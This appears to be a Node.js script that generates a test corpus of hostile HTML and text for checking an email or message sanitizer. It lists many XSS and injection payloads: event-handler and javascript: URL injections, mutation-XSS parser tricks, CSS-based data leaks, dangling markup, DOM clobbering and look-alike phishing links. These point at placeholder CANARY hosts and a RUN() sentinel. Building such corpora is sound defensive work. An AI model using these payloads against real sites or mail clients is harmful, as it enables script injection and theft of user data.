// Writes corpus.json beside it: what hostile mails and messages try in the
// browser of who reads them. All of it is our own, made from the kinds that the
// HTML standard, DOMPurify's notes and OWASP's lists name. In each, CANARY
// stands for the address of a server that must never be asked, and RUN() for a
// call that must never be made.
import { writeFile } from 'node:fs/promises';

const run = 'top.RUN&&top.RUN();window.RUN&&window.RUN();fetch(`CANARY/run`)';
const b64 = (s) => Buffer.from(s).toString('base64');
const entity = (s) => [...s].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');
const decimal = (s) => [...s].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')}`).join('');

const handlers = [
  'onload', 'onerror', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onpointerenter',
  'onanimationstart', 'ontransitionend', 'onbeforetoggle', 'onscrollend', 'onwheel', 'onpaste',
  'oncontentvisibilityautostatechange', 'onauxclick', 'onsecuritypolicyviolation',
];
const embeds = [
  `<iframe src="CANARY/f"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<object data="CANARY/o"></object>`,
  `<object data="data:text/html;base64,${b64(`<script>${run}</script>`)}"></object>`,
  `<embed src="CANARY/e">`,
  `<embed src="javascript:${run}">`,
  `<applet code="x" codebase="CANARY/"></applet>`,
  `<frameset><frame src="CANARY/fs"></frameset>`,
  `<portal src="CANARY/p"></portal>`,
  `<fencedframe src="CANARY/ff"></fencedframe>`,
  `<link rel="stylesheet" href="CANARY/l.css">`,
  `<link rel="preload" as="image" href="CANARY/l.png">`,
  `<link rel="prefetch" href="CANARY/pf">`,
  `<link rel="dns-prefetch" href="CANARY"><link rel="preconnect" href="CANARY">`,
  `<link rel="modulepreload" href="CANARY/m.js">`,
  `<link rel="icon" href="CANARY/icon.png">`,
  `<link rel="manifest" href="CANARY/man.json">`,
  `<video src="CANARY/v" autoplay></video>`,
  `<video poster="CANARY/po"></video>`,
  `<audio src="CANARY/a" autoplay></audio>`,
  `<video><source src="CANARY/s" onerror="${run}"></video>`,
  `<video><track src="CANARY/t" default></video>`,
  `<picture><source srcset="CANARY/ps"><img></picture>`,
  `<img srcset="CANARY/ss 2x">`,
  `<img src="CANARY/plain.png">`,
  `<img src="//CANARYHOST/relative.png">`,
  `<img src=" \tCANARY/spaced.png">`,
  `<img lowsrc="CANARY/low" dynsrc="CANARY/dyn">`,
  `<input type="image" src="CANARY/inp">`,
  `<table background="CANARY/tb"><tr><td background="CANARY/td">x</td></tr></table>`,
  `<body background="CANARY/bb">x`,
  `<bgsound src="CANARY/bg">`,
  `<svg><image href="CANARY/si"/></svg>`,
  `<svg><use href="CANARY/su#x"/></svg>`,
  `<svg><feImage href="CANARY/fe"/></svg>`,
  `<math><mtext href="CANARY/mt">x</mtext></math>`,
  `<blockquote cite="CANARY/ci">x</blockquote>`,
  `<isindex action="CANARY/isi">`,
];
const scripts = [
  `<script>${run}</script>`,
  `<script src="CANARY/s.js"></script>`,
  `<SCRIPT\n>${run}</SCRIPT\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type="module">${run}</script>`,
  `<script type="text/javascript;charset=utf-7">${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="CANARY/svg.js"/></svg>`,
  `<svg onload="${run}">`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="9">x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[><img src=x onerror="${run}">]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${run}"></template>`,
  `<div is="x-y" onclick="${run}">x</div>`,
  `<xml id="x"><a><b>&lt;img src=x onerror="${run}"&gt;</b></a></xml>`,
];
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  `<svg></p><style><a id="</style><img src=x onerror='${run}'>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${run}'&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='${run}' src>">`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<title><a title="</title><img src=x onerror='${run}'>">`,
  `<textarea><a title="</textarea><img src=x onerror='${run}'>">`,
  `<xmp><a title="</xmp><img src=x onerror='${run}'>">`,
  `<noembed><a title="</noembed><img src=x onerror='${run}'>">`,
  `<select><style></select><img src=x onerror='${run}'></style></select>`,
  `<table><a><form><table><a title="<img src=x onerror='${run}'>"></table></form></a></table>`,
  `<style><!--</style><script>${run}//--></script>`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror='${run}'&gt;">x</a>`,
  `<img src="x\` onerror=${run}//">`,
  `<img alt="\`\`onerror=${run}" src=x>`,
  `<p id="</p><img src=x onerror='${run}'>">x`,
  `<svg><desc><![CDATA[</desc><img src=x onerror="${run}">]]></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
];
const links = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`,
  `java&#10;script:${run}`, `${entity('javascript')}:${run}`, `${decimal('javascript')}:${run}`,
  `javascript&colon;${run}`, `\u0001javascript:${run}`, `vbscript:${run}`, `livescript:${run}`,
  `data:text/html,<script>${run}</script>`, `data:text/html;base64,${b64(`<script>${run}</script>`)}`,
  `data:image/svg+xml,<svg onload="${run}"/>`, `blob:CANARY/x`, `filesystem:CANARY/x`, `view-source:CANARY/x`,
  `jar:CANARY!/x`, `/api/v1/logout`, `//CANARYHOST/x`, `../../x`, `#x`, `?x`, `about:blank`, `file:///etc/passwd`,
];
const styles = [
  `@import "CANARY/i.css";`, `@import url(CANARY/i2.css);`, `@imp\\6frt "CANARY/i3.css";`,
  `body{background:url(CANARY/u)}`, `body{background:u\\72l(CANARY/u2)}`,
  `body{background:image-set("CANARY/is" 1x)}`, `body{background:-webkit-image-set(url(CANARY/wis) 1x)}`,
  `@font-face{font-family:x;src:url(CANARY/ff)}body{font-family:x}`,
  `li{list-style-image:url(CANARY/li)}`, `body{cursor:url(CANARY/cu),auto}`,
  `body::before{content:url(CANARY/co)}`, `body{border-image:url(CANARY/bi)}`,
  `body{mask-image:url(CANARY/ma)}`, `body{filter:url(CANARY/fi#x)}`, `body{--a:url(CANARY/va);background:var(--a)}`,
  `@namespace x url(CANARY/na);`, `body{behavior:url(CANARY/be)}`, `body{-moz-binding:url(CANARY/mb)}`,
  `body{width:expression(${run})}`, `@media all{body{background:url(CANARY/me)}}`,
  `@supports (color:red){body{background:url(CANARY/su)}}`, `@layer x{body{background:url(CANARY/la)}}`,
  `@container (min-width:1px){body{background:url(CANARY/cn)}}`, `@keyframes k{from{background:url(CANARY/kf)}}body{animation:k 1s}`,
  `body{& p{background:url(CANARY/ne)}}`, `</style><img src=x onerror="${run}">`,
  `input[value^=a]{background:url(CANARY/leak)}`, `html{position:fixed;inset:0;z-index:99999}`,
];
const ways = [
  `<meta http-equiv="refresh" content="0;url=CANARY/r">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="CANARY/"><img src="base.png"><a id="go" href="x">x</a>`,
  `<base target="_top"><a href="CANARY/top">x</a>`,
  `<form action="CANARY/form" id="f"><input name="a"><button>x</button></form>`,
  `<form action="javascript:${run}"><input type="submit" autofocus></form>`,
  `<button formaction="CANARY/fa">x</button><input form="f" formaction="CANARY/fb" type="submit">`,
  `<isindex type="image" src="1" onerror="${run}">`,
  `<a href="CANARY/top" target="_top">x</a>`,
  `<a href="CANARY/opener" target="x" rel="opener">x</a>`,
  `<a href="CANARY/ok" ping="CANARY/ping">x</a>`,
  `<map name="m"><area shape="default" href="javascript:${run}"></map><img usemap="#m">`,
  `<img src='CANARY/dangling?`, `<a href="CANARY/x?text=`, `<textarea>dangling`,
  `<button popovertarget="x">x</button><div id="x" popover onbeforetoggle="${run}">x</div>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<dialog open oncancel="${run}"><form method="dialog"><button>x</button></form></dialog>`,
  `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<div contenteditable autofocus onfocus="${run}">x</div>`,
  `<a id="location" name="cookie" href="CANARY/clobber">x</a><form id="document" name="body"></form>`,
  `<img name="getElementById"><img id="contentDocument"><a id="defaultView">x</a>`,
  `<a href="https://shор.example/login">https://shop.example/login</a>`,
  `<a href="https://shop.example@evil.example/">https://shop.example</a>`,
  `<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(CANARY/st)">x</p>`,
  `<p style="background:url(&quot;CANARY/sq&quot;)">x</p>`,
  `<p style="background:u&#92;72l(CANARY/se)">x</p>`,
  `<font color="red" onmouseover="${run}">x</font>`,
];

const html = [
  ...handlers.map((h) => `<img src=x ${h}="${run}" tabindex=0 autofocus style="animation:x 1s">`),
  ...handlers.slice(0, 6).map((h) => `<body ${h}="${run}">x</body>`),
  ...scripts, ...embeds, ...mutations, ...ways,
  ...links.map((l) => `<a href="${l.replaceAll('"', '&quot;')}">x</a>`),
  ...links.slice(0, 8).map((l) => `<img src="${l.replaceAll('"', '&quot;')}">`),
  ...styles.map((s) => `<style>${s}</style><ul><li>x</ul><p>x</p>`),
];
const text = [
  ...scripts.slice(0, 5), embeds[25], `<img src=x onerror="${run}">`, `javascript:${run}`,
  `[x](javascript:${run})`, `https://a.example/"onmouseover="${run}`, `{{constructor.constructor('${run}')()}}`,
  `**<b onclick="${run}">x</b>**`, `\${${run}}`, `{@html '<img src=x onerror=${run}>'}`,
  `\u202Egpj.exe https://a.example`, `a\u0007b<script>${run}</script>`, '@'.repeat(3000), '*'.repeat(3000),
];

await writeFile(
  new URL('corpus.json', import.meta.url),
  JSON.stringify({ html, text }, null, 1) + '\n',
);
